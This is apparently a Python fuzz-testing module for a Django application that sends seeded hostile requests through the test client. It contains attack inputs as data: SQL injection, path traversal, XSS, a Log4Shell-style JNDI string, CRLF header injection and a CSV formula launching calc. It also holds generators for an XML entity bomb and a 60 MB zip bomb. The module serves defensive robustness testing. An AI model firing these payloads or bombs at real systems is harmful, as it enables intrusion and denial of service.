"""What somebody who means harm sends: made from a seed, so that a failure comes again."""

import io
import random
import zipfile
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

from django.core.files.uploadedfile import SimpleUploadedFile

TEXTS = [
    "",
    " ",
    "'",
    "' OR 1=1 --",
    '"; DROP TABLE sanktion_case; --',
    "\0",
    "a\0b",
    "%00",
    "-1",
    "0",
    "1.5",
    "1e309",
    "NaN",
    "Infinity",
    "9" * 25,
    "1" * 5_000,
    "9999",
    "0001",
    "٩٩٩٩",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "2147483648",
    "٣",
    "²",
    "0x1f",
    "1_000",
    "true",
    "null",
    "None",
    "[]",
    "{}",
    '{"a": {"a": [1, null, "\\u0000"]}}',
    "[" * 2_000,
    "\ud800",
    "\udcff",
    "\ufeff",
    "\u202e",
    "👩‍👩‍👧‍👦" * 50,
    "A" * 10_000,
    "æøå" * 3_000,
    "../../../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd\0.pdf",
    "<script>alert(1)</script>",
    "{{ request }}",
    "{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    "%s%n%x%(name)s",
    "{0.__class__}",
    "\r\nSet-Cookie: a=b",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "0001-01-01",
    "01-01-0001",
    "31-12-9999",
    "2026-02-30",
    "2026-13-01T99:99:99",
    "31-02-2026",
    "24:00",
    "99:99",
    "00000000-0000-0000-0000-000000000000",
    "010101-0000",
    "//example.invalid/",
    "javascript:alert(1)",
    "on",
    "a,b,c",
    "1,2,3",
    "-1,,",
    ".*(a+)+$",
    # Places in a list: the last row of the page before.
    "_0",
    "_-1",
    "_99999999999999999999",
    "2026-01-01_1",
    "0001-01-01_1",
    "0001-01-01T00:00:00+00:00_1",
    "9999-12-31T23:59:59-12:00_1",
    "2026-01-01T00:00:00+99:99_1",
    "x_1_\0",
]
FILE_NAMES = ["a.pdf", "a.csv", "a.xlsx", "../a.pdf", "a", "a" * 300 + ".xlsx", "æ\u202e.exe", "=1.csv"]
# What pages ask for beside their forms: places of a list, views of a page.
QUERY_NAMES = (
    "after before side page vis aar gruppe dato team med uden hvem occurred_on kind fra til q next sort udfald format"
    " liste gentag status key id pk"
).split()
FORM_NAMES = "act ret bekraeft vis kind format next fra key up indsaet team status".split()
MEDIA_TYPES = [
    "application/json",
    "application/xml",
    "text/plain; charset=utf-16",
    "text/plain; charset=does-not-exist",
    "application/x-www-form-urlencoded; charset=utf-7",
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=x",
    "multipart/form-data; boundary=" + "x" * 300,
    "multipart/form-data; boundary=æ",
    "",
    "\x01",
]
BOUNDARY = "x"
BROKEN_BODIES = [
    b"",
    b"\x00\xff\xfe",
    b"%",
    b"a=%ff%fe&b=%00",
    b"a=" + b"&a=" * 1_500,
    b"--x\r\n",
    b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n',
    b'--x\r\nContent-Disposition: form-data; name="file"; filename="../../a\x00.pdf"\r\n\r\n%PDF\r\n--x--\r\n',
    b'--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%\r\n--x--\r\n',
    b"--x\r\nContent-Disposition: form-data; name*=utf-9''%ff\r\n\r\na\r\n--x--\r\n",
    b"{",
    b"[" * 100_000,
    b'{"list": Infinity, "copy": NaN, "stop": Infinity, "key": "x", "fields": {}}',
    b'{"list": 1e999, "copy": 99999999999999999999, "stop": [], "key": 5, "fields": {"a": null}}',
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "a">]><a>&a;</a>',
]


def xml_bomb() -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "aaaaaaaaaa">{entities}]><a>&a9;</a>'.encode()


def zip_bomb(megabytes: int = 60) -> bytes:
    """A workbook by its names, of zeros."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", xml_bomb())
        archive.writestr("xl/workbook.xml", xml_bomb())
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * megabytes * 1024 * 1024)
    return packed.getvalue()


def hostile_files() -> list[bytes]:
    return [
        b"",
        b"\0" * 100,
        xml_bomb(),
        zip_bomb(),
        b"%PDF-1.7",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R>>endobj\ntrailer<</Root 1 0 R>>%%EOF",
        b"PK\x03\x04" + b"\xff" * 200,
        b"\x89PNG\r\n\x1a\n" + b"\0" * 50,
        b"\xff\xd8\xff\xe0" + b"\0" * 50,
        b"cpr;haendelse;dato;indberetter;reference;beskrivelse\n=cmd|' /C calc'!A0;@SUM(1);+1;-1;\"\";\0\n",
        b'cpr;haendelse\n"' + b"a" * 200_000,
        b"cpr,haendelse\r" * 3_000,
        "\ufeffcpr;æ\n1;\ud7ff\n".encode("utf-16"),
        b"\xff\xfe\x00\xd8",
    ]


@dataclass(frozen=True)
class Hostile:
    """One request, ready for Django's test client: ``sent`` is what ``Client.generic`` or ``post`` takes."""

    method: str
    path: str
    sent: dict = field(default_factory=dict, hash=False)

    def by(self, client):
        if "files" in self.sent:
            return client.post(self.path, self.sent["files"])
        return client.generic(self.method, self.path, self.sent.get("body", b""), self.sent.get("media_type", FORM))

    def __str__(self) -> str:
        return f"{self.method} {self.path[:300]!r} {str(self.sent)[:600]}"


FORM = "application/x-www-form-urlencoded"


class Attacker:
    def __init__(self, seed: int):
        self.random = random.Random(seed)
        self.files = hostile_files()

    def text(self) -> str:
        return self.random.choice(TEXTS)

    def at_page(self, path: str) -> Hostile:
        """An address and what follows it."""
        kind = self.random.randrange(10)
        if kind < 4:
            return Hostile("GET", f"{path}?{self._query(QUERY_NAMES)}")
        if kind < 6:
            return Hostile("GET", self._twisted(path))
        if kind < 8:
            return Hostile("POST", path, {"body": self._query(FORM_NAMES).encode()})
        if kind < 9:
            media_type, body = self.random.choice(MEDIA_TYPES), self.random.choice(BROKEN_BODIES)
            return Hostile("POST", path, {"body": body, "media_type": media_type})
        method = self.random.choice(["PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "QUERY", "get"])
        return Hostile(method, path, {"body": b"a=1"})

    def at_form(self, form) -> Hostile:
        """A form as the page showed it, with a few fields of the attacker's own."""
        data = form.data()
        names = form.names or FORM_NAMES
        for name in self.random.sample(names, min(len(names), self.random.randint(1, 4))):
            values = data.setdefault(name, [""])
            change = self.random.randrange(6)
            if change == 0:
                data.pop(name)
            elif change == 1:
                data[name] = [*values, self.text()]
            else:
                data[name] = [self.text()]
        if form.method == "get":
            return Hostile("GET", f"{form.path}?{_encoded(data)}")
        if form.files and self.random.random() < 0.8:
            sent = {name: [_sendable(value) for value in values] for name, values in data.items()}
            return Hostile("POST", form.path, {"files": sent | {name: self._file() for name in form.files}})
        return Hostile("POST", form.path, {"body": _encoded(data).encode()})

    def _file(self) -> SimpleUploadedFile:
        name = self.random.choice(
            ["a.pdf", "a.csv", "a.xlsx", "../a.pdf", "a", "a" * 300 + ".xlsx", "æ\u202e.exe", "=1.csv"]
        )
        media_type = self.random.choice(["application/pdf", "text/csv", "image/png", "text/html", "x"])
        return SimpleUploadedFile(name, self.random.choice(self.files), media_type)

    def _query(self, names: list[str]) -> str:
        chosen = self.random.sample(names, self.random.randint(1, 4))
        return _encoded({name: [self.text() for _ in range(self.random.choice([1, 1, 2]))] for name in chosen})

    def _twisted(self, path: str) -> str:
        """One part of the path made into something else."""
        parts = path.strip("/").split("/")
        place = self.random.randrange(len(parts))
        parts[place] = quote(_sendable(self.text()), safe="")[:3_000] or "%20"
        return "/" + "/".join(parts) + self.random.choice(["/", "/", "/", "", "//", "/%00/", "/../"])


def _encoded(data: dict[str, list[str]]) -> str:
    return urlencode(data, doseq=True, errors="surrogatepass")


def _sendable(text: str) -> str:
    return text.encode(errors="replace").decode()
